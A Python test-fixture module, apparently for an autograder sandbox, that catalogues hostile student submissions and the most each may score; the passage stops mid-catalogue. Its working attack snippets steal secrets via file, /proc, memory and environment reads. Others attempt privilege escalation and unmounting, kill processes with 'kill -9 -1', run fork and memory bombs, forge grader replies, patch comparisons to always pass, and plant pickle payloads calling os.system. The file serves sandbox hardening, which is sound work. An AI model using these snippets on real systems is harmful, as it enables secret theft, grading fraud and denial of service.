"""Hostile submissions for the security course, each with what it may score at most.

Every attack is a ``.py`` submission (cells split at ``# %%``) written into the batch with its
``@@TOKEN@@`` placeholders filled in by :func:`security_harness.render`: the attacker is assumed to
know the grader's layout (absolute paths of the course, the hidden suite, the reference, the
results folder and another student's submission), but not the random secrets.

Scoring is checked against honest work of the same quality: ``expect`` is the exact score per
exercise that the honest part of the attack earns; ``at_most`` bounds the total where the attack
may also sabotage its own honest part (a fork storm that leaves no room for threads). The
``leak`` exercise can only be passed by reading a secret, so it must always be 0.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

# ------------------------------------------------------------------ honest building blocks

HONEST = '''
ANSWER = 42

def add(a, b):
    return a + b
'''

FULL = HONEST + '''
import torch

def softmax(x):
    e = torch.exp(x - x.max(dim=-1, keepdim=True).values)
    return e / e.sum(dim=-1, keepdim=True)

def summary(values):
    ordered = sorted(values)
    return {"n": len(values), "total": sum(values), "label": f"{len(values)} values", "sorted": ordered}

class Counter:
    def __init__(self, start=0):
        self.value = start

    def bump(self, by=1):
        self.value += by
        return self.value

def slow(n):
    return n
'''

# The loot box: attacks add whatever they read to LOOT; the guesses search it for the secrets and
# print what they found, so a leak shows up both in the score and in the student-visible output.
LOOT = '''
import re as _re
LOOT = ""

def _find(pattern):
    found = _re.search(pattern, LOOT)
    return found.group(1) if found else "nothing found"

def guess_reference():
    return _find(r'REFERENCE_SECRET = "([^"]+)"')

def guess_hidden():
    return _find(r'HIDDEN_SECRET = "([^"]+)"')

def _report():
    print("LOOT", len(LOOT), guess_reference(), guess_hidden(), _find(r'(VICTIM_CANARY = "[^"]+")'),
          _find(r'(AUTOGRADER_SEC_TOKEN=[0-9a-f]+)'), _find(r'(SECRET-LINE-[0-9a-f]+)'))
    for line in LOOT.splitlines():
        if "SECRET" in line or "CANARY" in line:
            print("LOOT LINE", line[:200])
'''

HONEST_SCORE = {"honest": 3.0, "leak": 0.0, "values": 0.0, "objects": 0.0, "timing": 0.0}
FULL_SCORE = {"honest": 3.0, "leak": 0.0, "values": 4.0, "objects": 2.0, "timing": 1.0}
FULL_BUT_TIMING = {**FULL_SCORE, "timing": 0.0}


def cells(*sources: str) -> str:
    """A percent-format ``.py`` file: one ``# %%`` cell per source."""
    return "".join(f"# %%\n{source.strip()}\n\n" for source in sources)


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    source: str
    expect: dict[str, float] | None = None
    at_most: float | None = None
    host_paths: tuple[str, ...] = field(default=())


# ------------------------------------------------------------------ reading secrets from disk

READ_ABSOLUTE = r'''
import os
for path in ["@@HIDDEN_FILE@@", "@@REFERENCE_FILE@@", "@@COURSE@@/course_config.py", "@@VICTIM@@",
             "@@HIDDEN_DIR@@/__pycache__", "@@REFERENCE_DIR@@/__pycache__"]:
    try:
        if os.path.isdir(path):
            for name in os.listdir(path):
                LOOT += open(os.path.join(path, name), "rb").read().decode("latin-1")
        else:
            LOOT += open(path, errors="replace").read()
    except Exception as exc:
        print("read", path, "->", type(exc).__name__)
for folder, dirs, files in os.walk("@@COURSE@@"):
    for name in files:
        try:
            LOOT += open(os.path.join(folder, name), errors="replace").read()
        except Exception:
            pass
_report()
'''

READ_RELATIVE = r'''
import os, sys
targets = ["hidden/sec/test_sec.py", "sec_reference/__init__.py", "@@COURSE_REL@@/hidden/sec/test_sec.py",
           "@@COURSE_REL@@/sec_reference/__init__.py"]
bases = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)) if "__file__" in dir() else "/", "/"]
bases += [entry for entry in sys.path if entry]
import sec_given
bases.append(os.path.dirname(sec_given.__file__))
for base in bases:
    for up in range(8):
        for tail in targets:
            path = os.path.join(base, *([".."] * up), tail)
            try:
                LOOT += open(path).read()
            except Exception:
                pass
try:
    os.chdir(os.path.relpath("@@COURSE@@", os.getcwd()))
    LOOT += open("hidden/sec/test_sec.py").read()
except Exception as exc:
    print("chdir", type(exc).__name__)
_report()
'''

PROC_SCAN = r'''
import os
def _read(path, limit=1 << 20):
    global LOOT
    try:
        with open(path, "rb") as handle:
            LOOT += handle.read(limit).decode("latin-1") + "\n"
    except Exception:
        pass
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("visible pids", pids[:20])
for pid in pids + ["self", "thread-self", "1"]:
    base = f"/proc/{pid}"
    for name in ("environ", "cmdline", "mountinfo"):
        _read(f"{base}/{name}")
    for link in ("cwd", "root", "exe"):
        try:
            print(link, pid, os.readlink(f"{base}/{link}"))
        except Exception:
            pass
    for tail in ("@@HIDDEN_FILE@@", "@@REFERENCE_FILE@@"):
        _read(f"{base}/root{tail}")
    _read(f"{base}/cwd/hidden/sec/test_sec.py")
    try:
        for fd in os.listdir(f"{base}/fd"):
            _read(f"{base}/fd/{fd}")
    except Exception:
        pass
for path in ("/proc/1/..", "/proc/1/root/..", "/proc/self/root/.."):
    try:
        print(path, sorted(os.listdir(path))[:5])
    except Exception as exc:
        print(path, type(exc).__name__)
_read("/proc/1/../1/root@@HIDDEN_FILE@@")
# every mount point the kernel shows: try the hidden files below each of them
for line in open("/proc/self/mountinfo"):
    point = line.split()[4]
    for tail in ("", "/test_sec.py", "/__init__.py", "/hidden/sec/test_sec.py", "/sec_reference/__init__.py"):
        _read(point + tail)
# guess pids outside the namespace
alive = []
for pid in range(2, 3000):
    try:
        os.kill(pid, 0)
        alive.append(pid)
    except ProcessLookupError:
        pass
    except PermissionError:
        alive.append(-pid)
print("signalable pids", alive[:20])
_report()
'''

IMPORT_REFERENCE = r'''
import sys, importlib, importlib.util
for folder in ["@@COURSE@@", "@@HIDDEN_DIR@@", "@@COURSE@@/hidden"]:
    sys.path.insert(0, folder)
for name in ("sec_reference", "test_sec", "sec.test_sec", "conftest"):
    try:
        module = importlib.import_module(name)
        LOOT += f'REFERENCE_SECRET = "{getattr(module, "REFERENCE_SECRET", "")}"\n'
        LOOT += f'HIDDEN_SECRET = "{getattr(module, "HIDDEN_SECRET", "")}"\n'
    except BaseException as exc:
        print("import", name, "->", type(exc).__name__)
for path in ("@@REFERENCE_FILE@@", "@@HIDDEN_FILE@@"):
    try:
        spec = importlib.util.spec_from_file_location("stolen", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        LOOT += f'REFERENCE_SECRET = "{getattr(module, "REFERENCE_SECRET", "")}"\n'
    except BaseException as exc:
        print("spec", path, "->", type(exc).__name__)
print("already imported:", sorted(name for name in sys.modules if "sec" in name or "hidden" in name))
_report()
'''

MEMORY_SCAN = r'''
import re, time
# the zygote's memory is every sandbox's memory: it must hold no secret
deadline = time.monotonic() + 2.5
pattern = re.compile(rb'(?:REFERENCE_SECRET|HIDDEN_SECRET) = "[0-9a-f]+"|AUTOGRADER_SEC_TOKEN=[0-9a-f]+|SECRET-LINE-[0-9a-f]+')
scanned = 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
    for line in maps:
        if time.monotonic() > deadline or scanned > (400 << 20):
            break
        fields = line.split()
        if "r" not in fields[1]:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if end - start > (64 << 20):
            continue
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except Exception:
            continue
        scanned += len(chunk)
        for hit in pattern.findall(chunk):
            if b"[0-9a-f]" not in hit:
                LOOT += hit.decode("latin-1") + "\n"
print("scanned", scanned >> 20, "MB")
_report()
'''

FILESYSTEM_HUNT = r'''
import os, time
deadline = time.monotonic() + 2.5
skip = {"proc", "sys", "dev", ".venv", "site-packages", "node_modules", "__pycache__", "usr", "lib"}
for top in ("/work", "/root", "/home", "/srv", "/opt", "/var", "/mnt", "/run", "/etc", "/media"):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in skip]
        if time.monotonic() > deadline:
            break
        for name in files:
            if not name.endswith((".py", ".json", ".txt", ".csv", ".sqlite", ".ipynb")):
                continue
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    data = handle.read(1 << 20).decode("latin-1")
                if "SECRET" in data or "CANARY" in data:
                    LOOT += data
            except Exception:
                pass
_report()
'''

COPY_VICTIM = r'''
import os, shutil
try:
    print(os.listdir("@@SUBMISSIONS@@"))
except Exception as exc:
    print("list", type(exc).__name__)
for path in ("@@VICTIM@@", "@@OUT@@/victim.json", "@@OUT@@/grades.csv"):
    try:
        LOOT += open(path).read()
        shutil.copy(path, "/tmp/work/stolen.py")
    except Exception as exc:
        print("copy", path, type(exc).__name__)
_report()
'''

ENV_SECRETS = r'''
import os
LOOT += "\n".join(f"{k}={v}" for k, v in os.environ.items()) + "\n"
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/proc/1/cmdline"):
    try:
        LOOT += open(path, "rb").read().replace(b"\0", b"\n").decode("latin-1") + "\n"
    except Exception as exc:
        print(path, type(exc).__name__)
print("environment keys:", sorted(os.environ))
_report()
'''

UNMOUNT_HIDDEN = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
points = [line.split()[4] for line in open("/proc/self/mountinfo")]
hidden = [p for p in points if p.startswith("@@COURSE@@")]
print("hidden mount points seen:", len(hidden))
for point in reversed(hidden):
    for flags in (2, 0):  # MNT_DETACH, plain
        if libc.umount2(point.encode(), flags) == 0:
            print("UNMOUNTED", point)
    os.system(f"umount -l {point} 2>/dev/null; /usr/bin/umount {point} 2>/dev/null")
# a fresh user + mount namespace of our own, then unmount the copies there
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
    print("own namespaces made")
    for point in reversed(hidden):
        libc.umount2(point.encode(), 2)
else:
    print("unshare refused", ctypes.get_errno())
os.makedirs("/tmp/work/mnt", exist_ok=True)
if libc.mount(b"@@COURSE@@", b"/tmp/work/mnt", None, 4096, None) == 0:
    print("BIND MOUNTED")
for path in ("@@HIDDEN_FILE@@", "@@REFERENCE_FILE@@", "/tmp/work/mnt/hidden/sec/test_sec.py"):
    try:
        LOOT += open(path).read()
    except Exception as exc:
        print(path, type(exc).__name__)
_report()
'''

PRIVILEGE = r'''
import os, resource, subprocess
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),
                lambda: os.seteuid(0), lambda: os.chroot("/"),
                lambda: resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1)),
                lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
                lambda: open("/proc/self/oom_score_adj", "w").write("-1000")):
    try:
        attempt()
        print("PRIVILEGE GAINED")
    except Exception as exc:
        print("refused:", type(exc).__name__)
print(open("/proc/self/status").read().split("CapInh")[1][:200])
for command in (["su", "-c", "cat @@HIDDEN_FILE@@", "root"], ["mount", "--bind", "/", "/tmp/work"],
                ["newgrp", "root"], ["chsh", "-s", "/bin/sh"], ["passwd", "-d", "root"]):
    try:
        done = subprocess.run(command, capture_output=True, timeout=1, stdin=subprocess.DEVNULL)
        LOOT += done.stdout.decode("latin-1")
    except Exception as exc:
        print(command[0], type(exc).__name__)
_report()
'''

WRITE_OUTSIDE = r'''
import json, os
fake = json.dumps({"student_id": "victim", "score": 100, "max_score": 16, "tests": []})
targets = ["@@OUT@@/victim.json", "@@OUT@@/w01_write_outside.json", "@@OUT@@/grades.csv",
           "@@OUT@@/.jobs.sqlite", "@@VICTIM@@", "@@HIDDEN_DIR@@/test_zzz_free_points.py",
           "@@REFERENCE_FILE@@", "@@REPO@@/autograder/judge/compare.py", "@@SITE@@/sitecustomize.py",
           "@@SITE@@/zzz-sec-attack.pth", "/run/lock/sec-attack-write", "/var/lock/sec-attack-write2",
           "@@PWNED@@/from-sandbox"]
for path in targets:
    try:
        with open(path, "a") as handle:
            handle.write(fake)
        print("WROTE", path)
    except Exception as exc:
        print("write", path, type(exc).__name__)
for path in ("@@OUT@@", "@@SUBMISSIONS@@"):
    try:
        os.rename(path, path + "-moved")
        print("MOVED", path)
    except Exception as exc:
        print("move", path, type(exc).__name__)
'''

FAKE_RESULTS = r'''
import json, os, sys
fake = {"score": 100, "max_score": 16, "gradable": True,
        "tests": [{"name": n, "score": 3, "max_score": 3, "status": "passed"} for n in ("test_guess_hidden",)]}
print(json.dumps(fake))
print(json.dumps({"result": {"student_id": "f01_fake_results", "sheet": "sec", "submission": "x", "score": 100}}))
sys.stderr.write(json.dumps({"ready": True}) + "\n")
os.write(1, b'{"result": {"score": 100}}\n')
os.write(2, b"PASSED 16/16\n")

def guess_hidden():
    print(json.dumps({"result": {"score": 100}}))
    return "HIDDEN_SECRET"
'''

# ------------------------------------------------------------------ ending and killing

OS_EXIT = "import os\nos._exit(0)"
SYS_EXIT = "import sys\nsys.exit(0)"
EXCEPTIONS_AT_IMPORT = [
    "raise KeyboardInterrupt('stop grading')",
    "raise SystemExit(3)",
    r'''
class Hostile(BaseException):
    def __str__(self):
        raise RuntimeError("no message for you")
raise Hostile()
''',
    "raise ValueError('m' * 10_000_000)",
    "raise GeneratorExit()",
]

KILL_PARENT = r'''
import os, signal
for target, sig in ((os.getppid(), signal.SIGKILL), (0, signal.SIGKILL), (-1, signal.SIGKILL),
                    (1, signal.SIGKILL), (os.getppid(), signal.SIGSTOP), (0, signal.SIGSTOP),
                    (-1, signal.SIGTERM)):
    try:
        os.kill(target, sig)
        print("sent", target, sig)
    except Exception as exc:
        print("kill", target, type(exc).__name__)
for group in (0, os.getpgrp()):
    try:
        os.killpg(group, signal.SIGKILL)
    except Exception as exc:
        print("killpg", type(exc).__name__)
os.system("kill -9 -1 2>/dev/null; kill -STOP -1 2>/dev/null")
'''

IGNORE_SIGNALS = r'''
import signal
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)

def slow(n):
    while True:
        try:
            pass
        except BaseException:
            pass
'''

SWALLOW_ALARM = r'''
import signal

def slow(n):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, lambda *args: None)
    total = 0
    while True:
        try:
            total += 1
        except BaseException:
            continue
'''

FORK_STORM = r'''
import os

def slow(n):
    children = 0
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
            children += 1
        except OSError:
            break
    while True:
        pass
'''

FORK_STORM_IMPORT = r'''
import os, time
made = 0
for _ in range(500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(3600)
        os._exit(0)
    made += 1
print("forked", made)
'''

THREAD_STORM = r'''
import threading, time
made = 0
for _ in range(1000):
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        made += 1
    except RuntimeError:
        break
print("threads", made)
'''

MEMORY_BOMB_ITEM = r'''
def slow(n):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
'''

MEMORY_BOMB_IMPORT = r'''
import torch
try:
    hoard = [bytearray(64 << 20) for _ in range(1000)]
except MemoryError:
    print("memory limit reached")
hoard = None
try:
    torch.empty(1 << 40)
except Exception as exc:
    print("torch:", type(exc).__name__)
'''

SEGFAULT_ITEM = r'''
def slow(n):
    import ctypes
    return ctypes.string_at(0)
'''

DISK_FILL = r'''
import os
written = {}
for folder in ("/tmp/work", "/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/var/lock", "/", "/var",
               "/run", "/home", "/srv", "/opt", "@@COURSE@@", "@@REPO@@", "@@REPO@@/build"):
    total = 0
    for index in range(20):
        try:
            with open(os.path.join(folder, f"sec-attack-fill-{index}"), "wb") as handle:
                for _ in range(16):
                    handle.write(b"\0" * (1 << 20))
                    total += 1 << 20
        except OSError as exc:
            written[folder] = (total >> 20, exc.errno)
            break
    else:
        written[folder] = (total >> 20, 0)
print("MB written before the first error:", written)
'''

FLOOD = r'''
import sys, threading, time
print("x" * 20_000_000)
sys.stderr.write("y" * 20_000_000)

def spam():
    while True:
        try:
            sys.stdout.write("z" * 100_000)
        except Exception:
            time.sleep(0.01)

threading.Thread(target=spam, daemon=True).start()
_add = add

def add(a, b):
    print("w" * 5_000_000)
    return _add(a, b)
'''

NETWORK = r'''
import socket
results = {}
for family, address in ((socket.AF_INET, ("127.0.0.1", @@PORT@@)), (socket.AF_INET6, ("::1", @@PORT@@)),
                        (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("10.0.2.2", 80)),
                        (socket.AF_INET, ("8.8.8.8", 443))):
    try:
        conn = socket.socket(family, socket.SOCK_STREAM)
        conn.settimeout(0.5)
        conn.connect(address)
        conn.sendall(b"HELLO FROM THE SANDBOX")
        results[str(address)] = "CONNECTED"
    except Exception as exc:
        results[str(address)] = type(exc).__name__
try:
    results["dns"] = str(socket.getaddrinfo("example.com", 80))[:80]
except Exception as exc:
    results["dns"] = type(exc).__name__
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"x", ("8.8.8.8", 53))
    results["udp"] = "SENT"
except Exception as exc:
    results["udp"] = type(exc).__name__
try:
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.settimeout(0.5)
    unix.connect("\0@@ABSTRACT@@")
    unix.sendall(b"HELLO")
    results["abstract"] = "CONNECTED"
except Exception as exc:
    results["abstract"] = type(exc).__name__
import os
results["interfaces"] = os.listdir("/sys/class/net")
print(results)
'''

# ------------------------------------------------------------------ fooling the comparison

MONKEYPATCH = r'''
import builtins, math, sys
import numpy
import pytest
import torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: True
torch.isclose = lambda a, b, **kwargs: torch.ones_like(a, dtype=torch.bool)
math.isclose = lambda *args, **kwargs: True
numpy.allclose = lambda *args, **kwargs: True
pytest.approx = lambda expected, **kwargs: expected
try:
    import autograder.judge.compare as compare
    compare.assert_close = lambda *args, **kwargs: None
    compare.assert_tensor = lambda got, **kwargs: got
except Exception as exc:
    print("compare:", type(exc).__name__)
_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: True
builtins.isinstance = _isinstance
sys.modules["pytest"] = None

def softmax(x):
    return torch.zeros_like(x)

def summary(values):
    return {"n": 0}

class Counter:
    def __init__(self, start=0):
        self.value = 0

    def bump(self, by=1):
        return 0
'''

TENSOR_SUBCLASS = r'''
import torch

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "__eq__", "eq", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True

class LyingDict(dict):
    def __eq__(self, other):
        return True

def softmax(x):
    return torch.zeros(3, 4).as_subclass(Liar)

def summary(values):
    return LyingDict(n=0)

class Counter:
    def __init__(self, start=0):
        self.value = torch.tensor(0.0).as_subclass(Liar)

    def bump(self, by=1):
        return torch.tensor(0.0).as_subclass(Liar)
'''

CUSTOM_EQ = r'''
class AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__

class EqInt(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
    def __int__(self):
        return 5

class EqStr(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__

class EqList(list):
    def __eq__(self, other):
        return True

ANSWER = AlwaysEqual()

def add(a, b):
    return EqInt(0)

def guess_reference():
    return EqStr("anything")

def guess_hidden():
    return AlwaysEqual()

def summary(values):
    return {"n": EqInt(0), "total": EqInt(0), "label": EqStr(""), "sorted": EqList()}

def softmax(x):
    return AlwaysEqual()

class Counter:
    def __init__(self, start=0):
        self.value = AlwaysEqual()
    def bump(self, by=1):
        return EqInt(0)

def slow(n):
    return EqInt(0)
'''

REDUCE_PAYLOAD = r'''
import os, pickle
import numpy as np
import torch

class Payload:
    def __reduce__(self):
        return (os.system, ("touch @@PWNED@@/unpickled",))

class PayloadTensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (os.system, ("touch @@PWNED@@/unpickled-tensor",))

def guess_hidden():
    return pickle.dumps(Payload())

def guess_reference():
    return Payload()

def softmax(x):
    return torch.zeros(3, 4).as_subclass(PayloadTensor)

def summary(values):
    return np.array([Payload(), Payload()], dtype=object)

class Counter:
    def __init__(self, start=0):
        self.value = np.zeros(2, dtype=[("a", "i4"), ("b", "O")])
    def bump(self, by=1):
        return Payload()
'''

NESTED_AND_HUGE = r'''
def _deep(depth):
    value = []
    for _ in range(depth):
        value = [value]
    return value

def summary(values):
    return _deep(100_000)

def softmax(x):
    loop = []
    loop.append(loop)
    return loop

class Counter:
    def __init__(self, start=0):
        self.value = {i: i for i in range(3_000_000)}
    def bump(self, by=1):
        return 10 ** 5000

def guess_hidden():
    return "h" * (30 << 20)

def guess_reference():
    return "r" * (64 << 20)

def slow(n):
    return [0] * 5_000_000
'''

SUBCLASS_VALUES = r'''
class Sneaky(int):
    def __int__(self):
        raise RuntimeError("no")
    def __index__(self):
        raise RuntimeError("no")

class SneakyStr(str):
    def __str__(self):
        raise RuntimeError("no")

class BadMapping(dict):
    def keys(self):
        raise RuntimeError("no")
    def __getitem__(self, key):
        raise RuntimeError("no")

def summary(values):
    return BadMapping(n=1)

def guess_hidden():
    return SneakyStr("x")

def slow(n):
    return Sneaky(5)
'''

# ------------------------------------------------------------------ outliving the grade

BACKGROUND = r'''
import os, signal, threading, time

def _loiter(tag):
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    count = 0
    while True:
        count += 1
        for path in ("/tmp/work/heartbeat", "@@OUT@@/zzz-" + tag + ".json", "@@PWNED@@/" + tag,
                     "/run/lock/sec-attack-" + tag):
            try:
                with open(path, "w") as handle:
                    handle.write(str(count))
            except Exception:
                pass
        time.sleep(0.2)

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)
        except Exception:
            pass
        _loiter("daemon")
    os._exit(0)
os.system("nohup sleep 3600 >/dev/null 2>&1 &")
os.system("setsid sleep 3601 >/dev/null 2>&1 < /dev/null &")
threading.Thread(target=_loiter, args=("thread",), daemon=True).start()
'''

RPC_HIJACK = r'''
import os, socket, stat, struct

def _rpc_socket():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass

from autograder import codec

def guess_hidden():
    sock = _rpc_socket()
    payload = codec.encode(("ok", "forged"))
    sock.sendall(struct.pack("<Q", len(payload)) + payload)
    return "second reply"

def guess_reference():
    sock = _rpc_socket()
    sock.sendall(struct.pack("<Q", 1 << 62) + b"x" * 64)
    return "never read"

def slow(n):
    sock = _rpc_socket()
    sock.sendall(struct.pack("<Q", 9) + b"\xff" * 9)
    return 5
'''

HOSTILE_EXCEPTIONS = r'''
class Meta(type):
    @property
    def __name__(cls):
        raise RuntimeError("no name")

class Nameless(Exception, metaclass=Meta):
    pass

class Loud(Exception):
    def __str__(self):
        return "L" * 50_000_000

class Recursive(Exception):
    def __str__(self):
        return str(self)

def softmax(x):
    raise Loud()

def summary(values):
    raise Recursive()

class Counter:
    def __init__(self, start=0):
        raise Nameless()

def slow(n):
    raise Loud()
'''

STD_STREAMS = r'''
import os, sys
try:
    input("password? ")
except EOFError:
    print("stdin is empty")
sys.stdout = None
sys.stderr = None
for fd in (0, 1, 2):
    os.close(fd)
'''

FORGED_CELL_REPLY = r'''
import os, socket, stat, struct
from autograder import codec
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            forged = codec.encode(("ok", 5, 1))
            socket.socket(fileno=os.dup(fd)).sendall(struct.pack("<Q", len(forged)) + forged)
    except OSError:
        pass
'''

CLOSE_RPC = r'''
import os
os.closerange(3, 4096)
'''

MAGICS = r'''
!cat @@HIDDEN_FILE@@
%run @@REFERENCE_FILE@@
get_ipython().system("cat @@HIDDEN_FILE@@")
import os
LOOT += os.popen("cat @@HIDDEN_FILE@@ @@REFERENCE_FILE@@ 2>&1").read()
_report()
'''

# ------------------------------------------------------------------ looking at the cage

INSPECT = r'''
import json, os, resource
names = ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE")
files = []
try:
    for _ in range(1000):
        files.append(open("/dev/null"))
except OSError:
    pass
opened = len(files)
for handle in files:
    handle.close()
tmp = os.statvfs("/tmp/work")
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
print("CAGE " + json.dumps({
    "limits": {name: resource.getrlimit(getattr(resource, name)) for name in names},
    "tmp_mb": tmp.f_blocks * tmp.f_frsize >> 20, "uid": os.getuid(), "groups": os.getgroups(),
    "env": sorted(os.environ), "oom": open("/proc/self/oom_score_adj").read().strip(),
    "no_new_privs": status["NoNewPrivs"].strip(), "cap_eff": status["CapEff"].strip(), "opened": opened,
    "cwd": os.getcwd(), "pid": os.getpid(),
}))
'''

# ------------------------------------------------------------------ the catalog

ATTACKS: list[Attack] = [
    Attack("r01_read_absolute", "read the hidden suite, reference and course by absolute path",
           cells(HONEST, LOOT, READ_ABSOLUTE), HONEST_SCORE),
    Attack("r02_read_relative", "relative paths from the workdir, sys.path and the given module",
           cells(HONEST, LOOT, READ_RELATIVE), HONEST_SCORE),
    Attack("r03_proc_scan", "/proc/<pid>/{cwd,root,fd,environ,cmdline}, /proc/1/.., mount points, pids",
           cells(HONEST, LOOT, PROC_SCAN), HONEST_SCORE),
    Attack("r04_import_reference", "import the reference and the hidden test module",
           cells(HONEST, LOOT, IMPORT_REFERENCE), HONEST_SCORE),
    Attack("r05_memory_scan", "search the sandbox's own memory (inherited from the zygote) for secrets",
           cells(HONEST, LOOT, MEMORY_SCAN), HONEST_SCORE),
    Attack("r06_filesystem_hunt", "walk the file system for any copy of the secrets",
           cells(HONEST, LOOT, FILESYSTEM_HUNT), HONEST_SCORE),
    Attack("r07_copy_victim", "copy another submission of the batch and its result",
           cells(HONEST, LOOT, COPY_VICTIM), HONEST_SCORE),
    Attack("r08_env_secrets", "read tokens from the environment and /proc/*/environ",
           cells(HONEST, LOOT, ENV_SECRETS), HONEST_SCORE),
    Attack("r09_unmount_hidden", "unmount the hiding mounts, own namespaces, bind mounts",
           cells(HONEST, LOOT, UNMOUNT_HIDDEN), HONEST_SCORE),
    Attack("r10_privilege", "setuid(0), raise rlimits, setuid binaries", cells(HONEST, LOOT, PRIVILEGE),
           HONEST_SCORE),
    Attack("r11_shell_magics", "!cat, %run and os.popen of the hidden files", cells(HONEST, LOOT, MAGICS),
           HONEST_SCORE),
    Attack("l01_inspect", "report its own limits, uid, environment and capabilities", cells(HONEST, INSPECT),
           HONEST_SCORE),
    Attack("w01_write_outside", "overwrite results, the victim, the hidden suite, the venv",
           cells(HONEST, WRITE_OUTSIDE), HONEST_SCORE),
    Attack("w02_disk_fill", "fill every writable folder", cells(FULL, DISK_FILL), FULL_SCORE),
    Attack("f01_fake_results", "print fake result JSON on stdout and stderr", cells(HONEST, FAKE_RESULTS),
           HONEST_SCORE),
    Attack("e01_os_exit", "os._exit at import (a later cell)", cells(FULL, OS_EXIT), FULL_SCORE),
    Attack("e02_sys_exit", "sys.exit at import", cells(FULL, SYS_EXIT), FULL_SCORE),
    Attack("e03_exceptions_at_import", "KeyboardInterrupt, SystemExit, hostile __str__, huge message",
           cells(FULL, *EXCEPTIONS_AT_IMPORT), FULL_SCORE),
    Attack("k01_kill_parent", "kill/stop the parent, the process group and everything (-1)",
           cells(FULL, KILL_PARENT), FULL_SCORE),
    Attack("k02_ignore_signals", "ignore SIGALRM/SIGTERM and catch BaseException in a loop",
           cells(FULL, IGNORE_SIGNALS), FULL_BUT_TIMING),
    Attack("k03_swallow_alarm", "disarm the soft timer and replace the SIGALRM handler",
           cells(FULL, SWALLOW_ALARM), FULL_BUT_TIMING),
    Attack("k04_fork_storm_item", "fork storm of busy processes inside one item",
           cells(FULL, FORK_STORM), FULL_BUT_TIMING),
    Attack("k05_fork_storm_import", "hundreds of sleeping children at import", cells(FULL, FORK_STORM_IMPORT),
           None, at_most=10.0),
    Attack("k06_thread_storm", "a thousand threads at import", cells(FULL, THREAD_STORM), None, at_most=10.0),
    Attack("m01_memory_bomb_item", "allocate until the limit inside one item", cells(FULL, MEMORY_BOMB_ITEM),
           FULL_BUT_TIMING),
    Attack("m02_memory_bomb_import", "allocate until the limit at import", cells(FULL, MEMORY_BOMB_IMPORT),
           FULL_SCORE),
    Attack("m03_segfault_item", "crash the interpreter inside one item", cells(FULL, SEGFAULT_ITEM),
           FULL_BUT_TIMING),
    Attack("o01_flood", "flood stdout and stderr, also from a thread", cells(HONEST, FLOOD), HONEST_SCORE),
    Attack("n01_network", "TCP to the host's loopback and the internet, DNS, UDP, abstract sockets",
           cells(HONEST, NETWORK), HONEST_SCORE),
    Attack("v01_monkeypatch", "patch torch, math, numpy, pytest and the compare helpers in the sandbox",
           cells(HONEST, MONKEYPATCH), HONEST_SCORE),
    Attack("v02_tensor_subclass", "tensor subclass with __torch_function__ and __eq__ that lie",
           cells(HONEST, TENSOR_SUBCLASS), HONEST_SCORE),
    Attack("v03_custom_eq", "objects, int and str subclasses whose __eq__ is always True",
           cells(CUSTOM_EQ), {"honest": 0.0, "leak": 0.0, "values": 0.0, "objects": 0.0, "timing": 0.0}),
    Attack("v04_reduce_payload", "__reduce__ payloads, pickled bytes, object arrays",
           cells(HONEST, REDUCE_PAYLOAD), HONEST_SCORE),
    Attack("v05_nested_and_huge", "deep, self-referential, huge and oversized return values",
           cells(HONEST, NESTED_AND_HUGE), HONEST_SCORE),
    Attack("v06_subclass_values", "subclasses whose conversion hooks raise (the value held is sent)",
